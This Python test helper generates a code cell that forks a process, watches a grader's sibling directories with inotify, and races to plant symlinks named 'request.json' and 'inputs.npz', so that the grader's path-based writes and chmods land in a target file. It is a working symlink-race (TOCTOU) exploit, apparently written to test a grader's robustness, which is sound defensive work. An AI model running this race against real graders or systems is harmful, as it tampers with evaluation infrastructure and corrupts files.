"""Racing links into the grader's directories: a forked helper waits for every directory the grader makes
beside the scratch (the probes' requests and answers, the kernel's ipc) and, in each, plants links named as
the files the grader writes (a probe's request and inputs), pointing at ``target``: a file the test made,
which the kernel cannot even see. It keeps trying in every new directory at once for ``seconds``, so that
the moment the grader hands a directory over is not missed.

A grader that writes or chmods those files by path writes into ``target`` and changes its mode.
"""

from __future__ import annotations

NAMES = ("request.json", "inputs.npz")


def cell(target: str, seconds: float = 0.5) -> str:
    return f'''
import ctypes as _ctypes, os as _os, select as _select, struct as _struct, time as _time

def _race(target, names, seconds):
    parent = _os.path.dirname(_os.getcwd())  # the scratch's siblings: exchange, answers, ipc-N, ...
    libc = _ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init()
    watched = {{}}
    for entry in _os.listdir(parent):
        path = _os.path.join(parent, entry)
        if _os.path.isdir(path) and entry not in ("scratch", "tmp", "shm"):
            watched[libc.inotify_add_watch(fd, path.encode(), 0x100)] = path  # IN_CREATE
    pending = {{}}  # directory -> (names still to plant, until when)
    while True:
        if _select.select([fd], [], [], 0 if pending else None)[0]:
            data = _os.read(fd, 65536)
            offset = 0
            while offset < len(data):
                wd, mask, cookie, length = _struct.unpack_from("iIII", data, offset)
                name = data[offset + 16:offset + 16 + length].rstrip(b"\\0").decode()
                offset += 16 + length
                pending[_os.path.join(watched.get(wd, parent), name)] = (set(names), _time.monotonic() + seconds)
        for directory, (left, until) in list(pending.items()):
            for file in list(left):
                try:
                    _os.symlink(target, _os.path.join(directory, file))
                    left.discard(file)
                except FileExistsError:
                    left.discard(file)
                except OSError:
                    pass
            if not left or _time.monotonic() > until:
                del pending[directory]
        _os.sched_yield()

if _os.fork() == 0:
    try:
        _race({target!r}, {NAMES!r}, {seconds!r})
    finally:
        _os._exit(0)
print("RACING")
'''
